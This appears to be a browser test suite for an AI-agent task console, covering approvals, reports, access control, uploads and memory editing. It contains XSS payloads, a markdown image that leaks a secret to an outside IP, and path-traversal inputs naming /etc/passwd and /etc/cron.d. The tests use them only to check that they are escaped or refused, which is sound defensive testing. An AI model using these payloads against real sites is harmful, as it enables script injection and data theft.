"""A night compressed into a minute: a schedule, a failure, an approval, the morning report.

The shift, its database and its tools' effects are real; the model says what a script says. With
PICTURES=FOLDER in the environment, what the browser sees is kept there.
"""

import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import anyio
import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import FilePayload, Page, expect

from secondbasket.apps.memory.statement import Statement
from secondbasket.apps.tasks.timer import Timer
from secondbasket.core.key import Key
from secondbasket.core.task import Order
from secondbasket.core.tool import Citation, ToolCall, ToolFacts, ToolOutcome
from tests.browser.conftest import sign_in
from tests.browser.scripted_console import Console
from tests.integration.apps.tasks.crews import Office, Trace, office

pytestmark = pytest.mark.anyio

CLERK = """---
name: night-clerk
role: clerk who works while others sleep
tools: [post.letter, notes.write]
autonomy: {post.letter: earn, default: act}
schedules: [{cron: "* * * * *", task: "Write to the three customers who wait.", time_zone: UTC}]
plan:
  - id: draft
    goal: Find a friendly first sentence.
    ask: "Write a friendly first sentence. {{ task.text }}"
    checks: [{is: said}]
  - id: notes
    goal: Keep what was written.
    tool: notes.write
    arguments: {text: "{{ draft.text }}"}
    checks: [{is: written, of: notes.md}, {is: cites}]
  - id: post
    goal: Post the letter.
    tool: post.letter
    arguments: {text: "{{ draft.text }}"}
    checks: [{is: said}]
---
"""
BROKEN = """---
name: unlucky
role: somebody whose tool says no
tools: [post.letter]
autonomy: {default: act}
replans: 0
plan:
  - id: post
    goal: Post what cannot be posted.
    tool: post.letter
    arguments: {text: fail}
    checks: [{is: said}]
---
"""
# What a model or an outsider might write to whoever reads over its shoulder.
HOSTILE = (
    "Good evening. <img src=x onerror=\"document.title='taken'\"> <script>alert(1)</script> "
    "![see](http://192.0.2.1/leak.png?q=secret) <a href='javascript:alert(2)'>here</a>"
)


class Notes:
    """Writes a file into the task's own folder, and names its source."""

    facts = ToolFacts(
        name="notes.write",
        description="Keep a note.",
        parameters={
            "type": "object",
            "properties": {"text": {"type": "string"}},
            "required": ["text"],
        },
        effect="write",
        confined=True,
    )

    async def call(self, call: ToolCall) -> ToolOutcome:
        call.folder.mkdir(parents=True, exist_ok=True)
        (call.folder / "notes.md").write_text(f"<script>alert(3)</script> {call.arguments['text']}")
        source = Citation(source="<b>letters.pdf</b>", place="page 3", text=HOSTILE)
        return ToolOutcome(text="kept", files=("notes.md",), citations=(source,))

    async def reconcile(self, call: ToolCall) -> None:
        return None


@asynccontextmanager
async def night(console: Console, *keys: Key, texts: int = 4) -> AsyncIterator[Office]:
    """The console's own board, worked on by a real shift."""
    post = Trace("post.letter", console.home / "posted")
    console.tools.extend((post.facts, Notes.facts))
    known = {key.id: key for key in (console.admin[0], *keys)}
    async with office(
        console.database,
        console.home,
        [post, Notes()],
        workers={"night-clerk": CLERK, "unlucky": BROKEN},
        texts=[HOSTILE] * texts,
        keys=known,
    ) as place:
        yield place


async def picture(page: Page, name: str) -> None:
    if folder := os.environ.get("PICTURES"):
        # Written here: the runs of tasks leave the loop without threads for the browser's own way.
        (Path(folder) / f"{name}.png").write_bytes(await page.screenshot(full_page=True))


async def nothing_wrong(page: Page) -> None:
    results = await Axe().run(page)
    assert results.violations_count == 0, f"{page.url}\n{results.generate_report()}"


async def test_a_night_is_told_in_the_morning(signed_in: Page, console: Console) -> None:
    page, admin = signed_in, console.admin[0]
    async with night(console) as place:

        async def owner() -> Key:
            return admin

        in_a_minute = datetime.now(UTC) + timedelta(minutes=1)
        await Timer(console.board, place.roster, owner=owner, now=lambda: in_a_minute).look()
        await console.board.add(admin, Order(text="Post the impossible.", worker="unlucky"))

        # The board shows what waits, what failed, without a reload.
        await page.goto(f"{console.url}/tasks")
        waiting = page.get_by_role("region", name="Waiting for you")
        await expect(waiting).to_contain_text("Write to the three customers", timeout=30_000)
        await expect(page.get_by_role("region", name="Not done")).to_contain_text("impossible")
        await picture(page, "tasks-light")
        await nothing_wrong(page)

        # What it asks is shown to the letter, and what others wrote is only ever text.
        await waiting.get_by_role("link").click()
        ask = page.get_by_role("region", name="night-clerk asks")
        await expect(ask).to_contain_text("0 of 5 accepted calls in a row")
        await expect(ask.locator("pre")).to_contain_text("<img src=x onerror=")
        assert await page.locator("main img, main script").count() == 0
        await expect(page.get_by_role("region", name="What it made")).to_contain_text("page 3")
        plan = page.get_by_role("region", name="Plan")
        await expect(plan.locator("li.done")).to_have_count(2)
        await expect(plan).to_contain_text("the file notes.md is written")
        first = page.locator("#entry-1")
        await first.locator("summary").click()
        await expect(first).to_contain_text("<script>alert(1)</script>")
        await picture(page, "asks-light")
        await nothing_wrong(page)
        async with page.expect_download() as waiting_for_file:
            await page.get_by_role("link", name="notes.md").click()
        file = await waiting_for_file.value
        assert file.suggested_filename == "notes.md"
        assert "<script>" in await anyio.Path(await file.path()).read_text()
        await ask.get_by_label("Note").fill("Friendly enough.")
        await ask.get_by_role("button", name="Approve").click()
        state = page.get_by_role("region", name="How it stands")
        await expect(state).to_contain_text("done", timeout=20_000)
        await expect(page.get_by_role("region", name="What people said")).to_contain_text(
            "Friendly enough."
        )
        await expect(page.get_by_role("region", name="Effects")).to_contain_text("post.letter")
        await page.get_by_role("button", name="Accept", exact=True).click()
        await expect(page.get_by_text("It was accepted.")).to_be_visible()
        assert (console.home / "posted").read_text().count("Good evening") == 1
        assert await page.title() != "taken"

        # The team has learned of it.
        await page.goto(f"{console.url}/workers")
        clerk = page.get_by_role("article", name="night-clerk")
        await clerk.locator("summary").click()
        row = clerk.get_by_role("row", name="post.letter")
        await expect(row).to_contain_text("asks: 1 of the 5 accepted calls")
        await picture(page, "workers-light")

        # And the morning.
        await page.get_by_role("link", name="Morning report").click()
        done = page.get_by_role("region", name="Done", exact=True)
        await expect(done).to_contain_text("Write to the three customers")
        await expect(done).to_contain_text("post.letter")
        await expect(page.get_by_role("region", name="Not done")).to_contain_text("impossible")
        await expect(done.get_by_role("link", name="notes.md")).to_be_visible()
        await picture(page, "report-light")
        await page.emulate_media(color_scheme="dark")
        for name in ("report", "tasks", "workers", "memory"):
            await page.goto(f"{console.url}/{name}")
            await nothing_wrong(page)
            await picture(page, f"{name}-dark")
        [task] = await console.board.list(admin, states=["done"])
        await page.set_viewport_size({"width": 320, "height": 640})
        for name in ("report", "tasks", "workers", "memory", f"tasks/{task.id}"):
            await page.goto(f"{console.url}/{name}")
            assert await page.evaluate("document.documentElement.scrollWidth") <= 320, name
            await picture(page, f"{name.partition('/')[0]}-narrow{'-one' * ('/' in name)}")


async def test_what_is_a_strangers_is_not_there(
    page: Page, signed_in: Page, console: Console
) -> None:
    stranger, secret = await console.keys.create(by=None, name="stranger")
    admin = console.admin[0]
    async with night(console, stranger):
        task = await console.board.add(admin, Order(text="Ours.", worker="night-clerk"))
        assert (await console.board.wait(admin, task.id, 20)).state == "waiting"
    [asked] = await console.board.approvals(admin)
    await page.context.clear_cookies()
    await sign_in(page, console, secret)
    await expect(page.get_by_role("link", name="Memory")).to_have_count(0)
    await page.goto(f"{console.url}/tasks")
    token = await page.locator("input[name=csrf_token]").first.input_value()
    await expect(page.get_by_text("No task here")).to_be_visible()
    await page.goto(f"{console.url}/workers")
    await expect(page.get_by_role("button", name="Pause all")).to_have_count(0)
    await expect(page.get_by_role("article", name="night-clerk")).to_be_visible()

    origin = {"Origin": console.url.removesuffix("/console")}

    async def post(path: str, **fields: str) -> int:
        reply = await page.request.post(
            f"{console.url}/{path}",
            form={"csrf_token": token, **fields},
            headers=origin,
            max_redirects=0,
        )
        return reply.status

    for path in (f"tasks/{task.id}", f"tasks/{task.id}/files/notes.md"):
        assert (await page.request.get(f"{console.url}/{path}")).status == 404
    for act in ("pause", "resume", "cancel", "accept", "rework"):
        assert await post(f"tasks/{task.id}/{act}", text="x") == 404, act
    assert await post(f"approvals/{asked.id}", answer="yes") == 404
    assert await post("workers/switch", off="yes") == 403
    assert await post("memory/erase", source="task:x") == 403
    assert (await page.request.get(f"{console.url}/memory")).status == 403
    # Without the token, and from elsewhere.
    bare = await page.request.post(f"{console.url}/tasks", form={"text": "x"}, headers=origin)
    assert bare.status == 403
    assert await console.board.approvals(admin) == [asked]
    assert not await console.board.off()


async def test_no_path_leads_out_of_a_tasks_folder(signed_in: Page, console: Console) -> None:
    admin = console.admin[0]
    async with night(console):
        task = await console.board.add(admin, Order(text="Ours.", worker="night-clerk"))
        assert (await console.board.wait(admin, task.id, 20)).state == "waiting"
    folder = console.home / "tasks" / task.id
    # What lies there and was not made by a tool, and a link where a file was.
    (folder / "in" / "given.txt").write_text("given")
    (folder / "notes.md").unlink()
    (folder / "notes.md").symlink_to(console.home / "workers" / "unlucky.md")
    files = f"{console.url}/tasks/{task.id}/files"
    for name in (
        "notes.md",
        "in/given.txt",
        "..%2f..%2f..%2fworkers%2funlucky.md",
        "%2e%2e/%2e%2e/workers/unlucky.md",
        "%2fetc%2fpasswd",
        "notes.md%00",
    ):
        assert (await signed_in.request.get(f"{files}/{name}")).status in (400, 404), name


async def test_work_is_handed_over_with_files(signed_in: Page, console: Console) -> None:
    page = signed_in
    await page.goto(f"{console.url}/tasks")
    await page.get_by_role("heading", name="Hand over a task").click()
    await page.get_by_label("What is to be done").fill("Register <b>these</b>.")
    await page.get_by_label("Worker").first.select_option("document-clerk")
    await page.get_by_label("Deadline, UTC").fill("2020-01-01T07:00")
    files: list[FilePayload] = [
        {"name": "invoice.txt", "mimeType": "text/plain", "buffer": b"Invoice 7"},
        {"name": "second.txt", "mimeType": "text/plain", "buffer": b"Invoice 8"},
    ]
    await page.get_by_label("Files").set_input_files(files)
    await page.get_by_role("button", name="Hand over").click()
    await expect(page.get_by_role("alert")).to_contain_text("The deadline is in the past.")
    await expect(page.get_by_label("What is to be done")).to_have_value("Register <b>these</b>.")
    await page.get_by_label("Deadline, UTC").fill("2999-01-01T07:00")
    await page.get_by_label("Priority").fill("3")
    await page.get_by_label("Files").set_input_files(files)
    await page.get_by_role("button", name="Hand over").click()
    await expect(page.get_by_role("heading", level=1)).to_have_text("Register <b>these</b>.")
    [task] = await console.board.list(console.admin[0])
    assert (task.priority, task.deadline) == (3, "2999-01-01T07:00Z")
    given = console.home / "tasks" / task.id / "in"
    assert {each.name: each.read_bytes() for each in given.iterdir()} == {
        "invoice.txt": b"Invoice 7",
        "second.txt": b"Invoice 8",
    }
    token = await page.locator("input[name=csrf_token]").first.input_value()
    for name in ("../escape.txt", "a/../../b", "..", "/etc/cron.d/x"):
        reply = await page.request.post(
            f"{console.url}/tasks",
            multipart={
                "csrf_token": token,
                "text": "x",
                "worker": "document-clerk",
                "files": {"name": name, "mimeType": "text/plain", "buffer": b"x"},
            },
            headers={"Origin": console.url.removesuffix("/console")},
        )
        assert reply.status == 400, name
    large: FilePayload = {
        "name": "large.bin",
        "mimeType": "text/plain",
        "buffer": bytes(2 << 20),
    }
    reply = await page.request.post(
        f"{console.url}/tasks",
        multipart={"csrf_token": token, "text": "x", "worker": "document-clerk", "files": large},
        headers={"Origin": console.url.removesuffix("/console")},
    )
    assert reply.status == 413
    assert len(await console.board.list(console.admin[0])) == 1
    # Held, let go with more, ended, and handed over anew.
    await page.get_by_role("button", name="Pause").click()
    await expect(page.get_by_text("Paused.")).to_be_visible()
    await page.get_by_text("Resume with more").first.click()
    await page.get_by_label("More steps").fill("5")
    await page.get_by_role("button", name="Resume with more").click()
    await expect(page.get_by_role("region", name="How it stands")).to_contain_text("queued")
    page.once("dialog", lambda dialog: dialog.accept())
    await page.get_by_role("button", name="Cancel").click()
    await page.get_by_label("What is to be different").fill("Only the first.")
    await page.get_by_role("button", name="Hand over again").click()
    await expect(page.get_by_role("heading", level=1)).to_contain_text("Only the first.")
    again = (await console.board.list(console.admin[0]))[0]
    assert again.parent == task.id


async def test_the_one_switch_holds_all(signed_in: Page, console: Console) -> None:
    await signed_in.goto(f"{console.url}/workers")
    signed_in.once("dialog", lambda dialog: dialog.dismiss())
    await signed_in.get_by_role("button", name="Pause all").click()
    assert not await console.board.off()
    signed_in.once("dialog", lambda dialog: dialog.accept())
    await signed_in.get_by_role("button", name="Pause all").click()
    await expect(signed_in.get_by_text("All workers are paused.")).to_be_visible()
    assert await console.board.off()
    await nothing_wrong(signed_in)
    signed_in.once("dialog", lambda dialog: dialog.accept())
    await signed_in.get_by_role("button", name="Start all").click()
    await expect(signed_in.get_by_role("button", name="Pause all")).to_be_visible()
    assert not await console.board.off()


async def test_who_was_revoked_sees_nothing_further(
    page: Page, signed_in: Page, console: Console
) -> None:
    other, secret = await console.keys.create(by=None, name="leaving", role="admin")
    task = await console.board.add(other, Order(text="Ours.", worker="document-clerk"))
    await page.context.clear_cookies()
    await sign_in(page, console, secret)
    await page.goto(f"{console.url}/tasks/{task.id}")
    await console.keys.revoke(other.id, by=None)
    await page.wait_for_url(f"{console.url}/login")


async def test_memory_is_read_put_right_and_forgotten(signed_in: Page, console: Console) -> None:
    page = signed_in

    procedure = Statement(
        kind="procedure",
        text="Invoices of <b>Meyer</b> go out on Fridays.",
        sources=("task:task_1",),
    )
    await console.memories.remember(procedure)
    fact = Statement(
        kind="fact",
        subject="Meyer",
        predicate="is supplied from",
        object="Bremen",
        sources=("document:letters.pdf",),
    )
    await console.memories.remember(fact)
    await page.goto(f"{console.url}/memory")
    await expect(page.get_by_role("list", name="Hygiene")).to_contain_text("2 of 2")
    cards = page.get_by_role("article")
    await expect(cards).to_have_count(2)
    await nothing_wrong(page)
    await picture(page, "memory-light")
    await page.get_by_label("Look for").fill("Fridays")
    await page.get_by_role("button", name="Show").click()
    await expect(cards).to_have_count(1)
    await expect(cards).to_contain_text("<b>Meyer</b>")
    await page.goto(f"{console.url}/memory?kind=fact")
    await expect(cards).to_have_count(1)
    await cards.get_by_text("Put it right").first.click()
    await page.get_by_role("textbox", name="Meyer is supplied from").fill("Hamburg")
    await page.get_by_role("button", name="Put it right").click()
    await expect(page.get_by_role("status").first).to_contain_text("Put right")
    await expect(cards.first).to_contain_text("Hamburg")
    await expect(cards.nth(1)).to_contain_text("corrected")
    await nothing_wrong(page)
    page.once("dialog", lambda dialog: dialog.accept())
    await cards.first.get_by_role("button", name="Forget").click()
    receipt = page.get_by_role("status", name="Forgotten")
    await expect(receipt).to_contain_text("sha256 of their ids")
    await picture(page, "receipt-light")
    await expect(cards).to_have_count(1)
    await (
        page.get_by_role("region", name="Erase a source").get_by_label("Source").fill("task:task_1")
    )
    page.once("dialog", lambda dialog: dialog.accept())
    await page.get_by_role("button", name="Erase", exact=True).click()
    await expect(page.get_by_text("Nothing is remembered here")).to_be_visible()
    assert await console.memories.listing(history=True) == []
